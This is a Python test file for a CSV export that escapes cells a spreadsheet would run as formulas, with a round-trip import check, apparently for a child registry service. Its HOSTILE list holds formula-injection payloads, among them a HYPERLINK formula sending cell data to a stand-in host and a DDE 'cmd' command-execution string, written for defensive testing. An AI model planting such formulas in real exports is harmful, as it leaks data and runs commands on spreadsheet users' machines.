"""The export's cell rule: what a spreadsheet would run as a formula comes out as text, every real value unchanged,
and an exported file imported again reads its values back."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest

from backbone.csvexport import csv_table
from services.registry.importing import parse_children
from tests.unit.test_child_import import FIELDS, child

HOSTILE = [
    ('=HYPERLINK("http://x.example/?"&A1,"打开")', '\'=HYPERLINK("http://x.example/?"&A1,"打开")'),
    ("=1+1", "'=1+1"),
    ("+1", "'+1"),
    ("@SUM(1)", "'@SUM(1)"),
    ("-1+2", "'-1+2"),
    ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\0=1+1", "'\0=1+1"),
    ("＝1+1", "'＝1+1"),  # full-width, as a Chinese input method types it
    ("＋1", "'＋1"),
    ("－1", "'－1"),
    ("＠SUM(1)", "'＠SUM(1)"),
    ("+8613907730001", "'+8613907730001"),  # not a plain number: a phone in international form shows as text
    ("-1e-05", "'-1e-05"),  # text that only looks numeric to some readers
    (["=1+1", "tutoring"], "'=1+1;tutoring"),  # a list is one cell, judged as a whole
]
UNCHANGED = [
    ("李小梅", "李小梅"),
    ("13907730001", "13907730001"),
    ("0771-1234567", "0771-1234567"),
    ("2023-01-10T09:00:00Z", "2023-01-10T09:00:00Z"),
    ("<5", "<5"),
    ("a=b", "a=b"),  # only the first character makes a formula
    ("-12.50", "-12.50"),  # a negative yuan amount as text (how JSON-mode dumps write a Decimal)
    ("-3", "-3"),
    (Decimal("-12.50"), "-12.50"),
    (-12.5, "-12.5"),
    (-1e-05, "-1e-05"),  # a number is data, however it prints
    (-3, "-3"),
    (True, "True"),
    (None, ""),
    (["tutoring", "companionship"], "tutoring;companionship"),
]


def exported(*values: Any) -> list[str]:
    """The cells of the one row an export of `values` holds, as a spreadsheet's CSV reader sees them."""
    body = csv_table([f"c{n}" for n in range(len(values))], [values], "x.csv").body
    header, row = list(csv.reader(io.StringIO(bytes(body).decode("utf-8-sig"), newline="")))
    assert len(header) == len(values)
    return row


@pytest.mark.parametrize(("value", "cell"), HOSTILE + UNCHANGED, ids=[repr(v) for v, _ in HOSTILE + UNCHANGED])
def test_a_cell_a_spreadsheet_would_evaluate_gets_an_apostrophe_and_no_other_cell_changes(
    value: Any, cell: str
) -> None:
    assert exported(value) == [cell]


def test_an_exported_child_imported_again_keeps_its_values() -> None:
    hostile = child(
        name='=HYPERLINK("http://x.example/?"&A1,"打开")', township="=1+1", village="+1", guardian_name="@SUM(1)"
    )
    raw = bytes(csv_table(FIELDS, [[hostile[field] for field in FIELDS]], "children.csv").body)
    assert b"'=HYPERLINK" in raw
    assert b"'@SUM(1)" in raw
    parsed = parse_children(raw)
    assert parsed.rejected == []
    [(_, read)] = parsed.accepted
    assert (read.name, read.township, read.village, read.guardian_name) == (
        hostile["name"],
        "=1+1",
        "+1",
        "@SUM(1)",
    )
